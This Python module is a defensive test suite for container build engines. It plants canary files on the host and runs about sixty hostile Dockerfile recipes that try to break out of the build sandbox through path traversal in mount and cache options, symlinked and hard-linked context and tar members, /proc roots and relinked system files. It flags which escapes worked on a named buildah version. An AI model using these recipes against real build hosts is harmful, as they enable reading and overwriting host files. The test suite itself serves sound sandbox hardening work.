"""Probes: recipes that try to reach the machine that builds them. Any engine for container files can be probed.

Each recipe looks for canaries: files of the machine, of other builds and of the stores of base images, and a directory
that all users may write to. An engine holds if no build prints a canary's secret or leaves a file behind, whether the
build fails or not.
"""

import io
import secrets
import shutil
import tarfile
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

MOUNTED = "/mounted"
"""Where probes mount what they should not see."""


@dataclass(frozen=True)
class Canaries:
    """`secret` is in each of `files`, all readable by all users; `writable` is an empty directory."""

    secret: str
    files: tuple[Path, ...]
    writable: Path

    def is_alive(self, output: str) -> bool:
        """Whether *output* has no secret and no file has been added or changed."""
        unchanged = all(file.read_text() == self.secret for file in self.files)
        return self.secret not in output and unchanged and not list(self.writable.iterdir())

    def look(self, at: str = MOUNTED) -> str:
        """A shell command that reads and overwrites the canaries below the directory *at*, and always succeeds."""
        reads = "; ".join(f"cat {at}{file}; echo poison > {at}{file}" for file in self.files)
        return f"{reads}; touch {at}{self.writable}/poison; find {at}/ -maxdepth 3 -name 'swell-canary*'; true"


@contextmanager
def canaries(workspace: Path) -> Iterator[Canaries]:
    """Canaries on this machine and in the *workspace* of an engine, for the length of the block."""
    name, secret = f"swell-canary-{secrets.token_hex(6)}", secrets.token_hex(16)
    others = (workspace / f"builds/{name}", workspace / f"bases/0/{name}", workspace / f"networks/{name}")
    places = [Path(top) / name for top in ("/root", "/home", "/srv", "/var/lib", "/var/tmp", "/opt", "/mnt")]
    writable = Path(tempfile.gettempdir()) / f"{name}-writable"
    made = [*places, *others, writable]
    try:
        for directory in made:
            directory.mkdir(parents=True)
            directory.chmod(0o755)
        writable.chmod(0o777)
        files = tuple(directory / "secret" for directory in (*places, *others))
        for file in files:
            file.write_text(secret)
            file.chmod(0o666)
        yield Canaries(secret, files, writable)
    finally:
        for directory in made:
            shutil.rmtree(directory, ignore_errors=True)


Members = Callable[[Canaries], list[tuple[tarfile.TarInfo, bytes]]]


@dataclass(frozen=True)
class Probe:
    """A recipe: its `body` names the base image as `{base}`, commands that look for canaries as `{look}` (below
    `MOUNTED`) and `{look_here}` (below `/`), one canary as `{canary}`, the writable directory as `{writable}`. The body
    `first` is built before as the image `{first}`. `context` has the members of the build context.
    """

    name: str
    body: str
    first: str = ""
    context: Members = field(default=lambda _: [])

    @property
    def has_reached(self) -> bool:
        """Whether it reached the machine on commit aa47f99, with buildah 1.28.2."""
        return self.name in _HAVE_REACHED

    def fill(self, body: str, base: str, first: str, canaries: Canaries) -> str:
        return body.format(
            base=base,
            first=first,
            look=canaries.look(),
            look_here=canaries.look(""),
            canary=canaries.files[4],
            writable=canaries.writable,
        )


def member(name: str, *, link: str = "", hard: str = "", device: bool = False) -> tarfile.TarInfo:
    """A member of a tar: a file, or a symbolic link, hard link or device."""
    made = tarfile.TarInfo(name)
    made.mode = 0o777
    if link or hard:
        made.type, made.linkname = (tarfile.SYMTYPE, link) if link else (tarfile.LNKTYPE, hard)
    elif device:
        made.type, made.devmajor, made.devminor = tarfile.BLKTYPE, 254, 0
    return made


def packed(members: list[tuple[tarfile.TarInfo, bytes]], mode: str = "w") -> bytes:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode=mode) as archive:  # type: ignore[call-overload]
        for each, data in members:
            each.size = len(data)
            archive.addfile(each, io.BytesIO(data))
    return content.getvalue()


def _hostile_tar(canaries: Canaries) -> list[tuple[tarfile.TarInfo, bytes]]:
    """A tar for ADD, in the context: it writes through names, links and hard links to the outside."""
    out = canaries.writable
    inner = [
        (member("../../../../../../../.." + str(out / "dots")), b"poison"),
        (member(str(out / "absolute")), b"poison"),
        (member("link", link=str(out)), b""),
        (member("link/through"), b"poison"),
        (member("up", link="../../../../../../../../.." + str(out)), b""),
        (member("up/through"), b"poison"),
        (member("hard", hard=str(canaries.files[4])), b""),
        (member("device", device=True), b""),
    ]
    return [(member(f"{number}.tar"), packed([each])) for number, each in enumerate(inner)] + [
        (member("all.tar"), packed(inner[2:6]))
    ]


def _context(*members: Callable[[Canaries], tarfile.TarInfo]) -> Members:
    return lambda canaries: [(make(canaries), b"") for make in members]


ESC = "FROM {base} AS trap\nRUN ln -s / /esc; ln -s ../../../../../../../../.. /up; mkdir /d; ln -s / /d/esc\n"
TRAP = "FROM {base}\nRUN ln -s / /esc\n"


def _mount(name: str, options: str, before: str = "", **probe: object) -> Probe:
    body = f"{before}FROM {{base}}\nRUN --mount={options},target={MOUNTED} {{look}}\n"
    return Probe(name, body, **probe)  # type: ignore[arg-type]


def _cache(name: str, steps: str) -> Probe:
    return Probe(name, f"FROM {{base}}\n{steps}")


PROBES = (
    _mount("cache-id-dots", "type=cache,id=../../../../../../.."),
    _mount("cache-id-dots-inside", "type=cache,id=a/../../../../../../../.."),
    _mount("cache-id-absolute", "type=cache,id=/../../../../../../.."),
    _mount("cache-id-variable", "type=cache,id=$UP", "ARG UP=../../../../../../..\n"),
    _cache("cache-id-argument", "ARG UP=../../../../../../..\nRUN --mount=type=cache,id=$UP,target=/mounted {look}\n"),
    _cache("cache-target-dots", "WORKDIR /\nRUN --mount=type=cache,target=../../../../../../.. {look_here}\n"),
    _cache(
        "cache-in-cache",
        "RUN --mount=type=cache,id=a,target=/a ln -s / /a/esc\n"
        "RUN --mount=type=cache,id=a/esc,target=/mounted {look}\n",
    ),
    _cache(
        "cache-in-cache-by-target",
        "RUN --mount=type=cache,target=/a ln -s / /a/esc\nRUN --mount=type=cache,target=/a/esc {look}\n",
    ),
    _cache(
        "cache-lock-file",
        "RUN --mount=type=cache,id=a,target=/a ln -sf {writable}/poison /a/buildah-cache-lockfile\n"
        "RUN --mount=type=cache,id=a,sharing=locked,target=/a true\n",
    ),
    _mount("cache-from-stage", "type=cache,from=trap,source=/esc", ESC),
    _mount("cache-from-stage-locked", "type=cache,from=trap,source=/esc,sharing=locked", ESC),
    _mount("cache-from-dots", "type=cache,from=trap,source=../../../../../../../../..", ESC),
    _mount("bind-from-stage", "type=bind,rw,from=trap,source=/esc", ESC),
    _mount("bind-from-stage-read-only", "type=bind,from=trap,source=/esc", ESC),
    _mount("bind-from-stage-relative", "type=bind,rw,from=trap,source=/up", ESC),
    _mount("bind-from-stage-inside", "type=bind,rw,from=trap,source=/d/esc/", ESC),
    _mount("bind-from-number", "type=bind,rw,from=0,source=/esc", ESC),
    _mount("bind-from-dots", "type=bind,rw,from=trap,source=../../../../../../../../..", ESC),
    _mount("bind-from-image", "type=bind,rw,from={first},source=/esc", first=TRAP),
    _mount("cache-from-image", "type=cache,from={first},source=/esc", first=TRAP),
    _mount("bind-context-dots", "type=bind,rw,source=../../../../../../../../.."),
    _mount("bind-context-absolute", "type=bind,rw,source=/../../../../../../../../.."),
    _mount("bind-context-link", "type=bind,rw,source=esc", context=_context(lambda _: member("esc", link="/"))),
    _mount(
        "bind-context-links-in-a-chain",
        "type=bind,rw,source=esc",
        context=_context(
            lambda _: member("a/b/c/top", link="../../.."),
            lambda _: member("esc", link="a/b/c/top/../../../../../../../.."),
        ),
    ),
    _cache(
        "bind-context-changed",
        "RUN --mount=type=bind,rw,target=/c ln -s / /c/esc\n"
        "RUN --mount=type=bind,rw,source=esc,target=/mounted {look}\n",
    ),
    _mount("bind-propagation", "type=bind,rw,bind-propagation=rshared,source=."),
    _mount("bind-options", "type=bind,rw,bind-propagation=suid,source=."),
    _cache("tmpfs-behind-a-link", "RUN ln -s {writable} /link\nRUN --mount=type=tmpfs,target=/link/made {look_here}\n"),
    _cache("tmpfs-dots", "RUN --mount=type=tmpfs,target=/../../../../../..{writable}/made {look_here}\n"),
    _cache("cache-behind-a-link", "RUN ln -s {writable} /link\nRUN --mount=type=cache,target=/link/made {look_here}\n"),
    _mount("secret-source", "type=secret,id=x,source={canary}"),
    _mount("secret-id", "type=secret,id=../../../../../../../..{canary}"),
    _mount("secret-required", "type=secret,id={canary},required=true"),
    _mount("ssh", "type=ssh,id=default"),
    _mount("ssh-id", "type=ssh,id={canary},required=true"),
    Probe("copy-from-stage", ESC + "FROM {base}\nCOPY --from=trap /esc{canary} /got\nRUN cat /got\n"),
    Probe(
        "copy-from-stage-file",
        "FROM {base} AS t\nRUN ln -s {canary} /f\nFROM {base}\nCOPY --from=t /f /f\nRUN cat /f\n",
    ),
    Probe(
        "copy-from-stage-dots", ESC + "FROM {base}\nCOPY --from=trap ../../../../../../../..{canary} /f\nRUN cat /f\n"
    ),
    Probe("copy-from-image", "FROM {base}\nCOPY --from={first} /esc{canary} /got\nRUN cat /got\n", first=TRAP),
    Probe(
        "copy-behind-a-link", "FROM {base}\nRUN ln -s {writable} /out\nCOPY --from={base} /bin/busybox /out/poison\n"
    ),
    Probe("copy-context-dots", "FROM {base}\nCOPY ../../../../../../../..{canary} /got\nRUN cat /got\n"),
    Probe(
        "copy-context-link",
        "FROM {base}\nCOPY got /got\nRUN cat /got\n",
        context=_context(lambda canaries: member("got", link=str(canaries.files[4]))),
    ),
    Probe(
        "copy-context-linked-directory",
        "FROM {base}\nCOPY esc{canary} /got\nRUN cat /got\n",
        context=_context(lambda _: member("esc", link="../../../../../../../../..")),
    ),
    Probe(
        "copy-context-hard-link",
        "FROM {base}\nCOPY got /got\nRUN cat /got\n",
        context=_context(lambda canaries: member("got", hard=str(canaries.files[4]))),
    ),
    Probe("copy-context-device", "FROM {base}\nCOPY . /c\n", context=_context(lambda _: member("disk", device=True))),
    Probe(
        "ignore-file-link",
        "FROM {base}\nCOPY . /c\nRUN cat /c/.dockerignore\n",
        context=_context(lambda canaries: member(".dockerignore", link=str(canaries.files[4]))),
    ),
    *(
        Probe(f"add-tar-{name}", f"FROM {{base}}\nADD {name}.tar /\nRUN {{look_here}}\n", context=_hostile_tar)
        for name in ("0", "1", "6", "7", "all")
    ),
    Probe("add-file-url", "FROM {base}\nADD file://{canary} /got\nRUN cat /got\n"),
    Probe("add-git-file", "FROM {base}\nADD git://localhost{canary} /got\nRUN cat /got\n"),
    Probe("add-absolute", "FROM {base}\nADD {canary} /got\nRUN cat /got\n"),
    Probe("security-insecure", "FROM {base}\nRUN --security=insecure {look_here}\n"),
    Probe("network-host", "FROM {base}\nRUN --network=host {look_here}\n"),
    Probe(
        "onbuild-cache",
        "FROM {first}\nRUN true\n",
        first="FROM {base}\nONBUILD RUN --mount=type=cache,id=../../../../../../..,target=/mounted {look}\n",
    ),
    Probe(
        "onbuild-bind",
        "FROM {first}\nRUN true\n",
        first="FROM {base}\nRUN ln -s / /esc\n"
        "ONBUILD RUN --mount=type=bind,rw,from={base},source=../../../../../../../..,target=/mounted {look}\n",
    ),
    Probe(
        "onbuild-copy",
        "FROM {first}\nRUN cat /got\n",
        first="FROM {base}\nONBUILD COPY ../../../../../../..{canary} /got\n",
    ),
    Probe(
        "volume-behind-a-link",
        "FROM {base}\nRUN ln -s {writable} /link\nVOLUME /link/made\nRUN touch /link/poison; {look_here}\n",
    ),
    Probe(
        "workdir-behind-a-link",
        "FROM {base}\nRUN ln -s {writable} /link\nWORKDIR /link/poison\nRUN touch poison; {look_here}\n",
    ),
    Probe(
        "passwd-link",
        "FROM {base}\nRUN rm -f /etc/passwd; ln -s {canary} /etc/passwd\nUSER nobody\nRUN id; {look_here}\n",
    ),
    Probe("group-fifo-link", "FROM {base}\nRUN rm -f /etc/group; ln -s {canary} /etc/group\nUSER 1:nogroup\nRUN id\n"),
    Probe(
        "hosts-link",
        "FROM {base}\nRUN rm -f /etc/hosts /etc/resolv.conf; ln -s {writable}/poison /etc/resolv.conf; "
        "ln -s {canary} /etc/hosts; true\nRUN cat /etc/hosts\n",
    ),
    Probe(
        "proc-root",
        "FROM {base}\nRUN for p in /proc/[0-9]*; do cat $p/root{canary} $p/cwd{canary}; "
        "touch $p/root{writable}/poison; done; true\n",
    ),
    Probe("shell-outside", 'FROM {base}\nSHELL ["/../../../../../../../bin/sh", "-c"]\nRUN {look_here}\n'),
)

_HAVE_REACHED = frozenset(
    {
        "cache-id-dots",
        "cache-id-dots-inside",
        "cache-id-argument",
        "cache-in-cache",
        "cache-from-stage",
        "bind-from-stage",
        "bind-from-stage-read-only",
        "bind-from-stage-relative",
        "bind-from-stage-inside",
        "bind-from-image",
        "bind-context-changed",
        "onbuild-cache",
    }
)
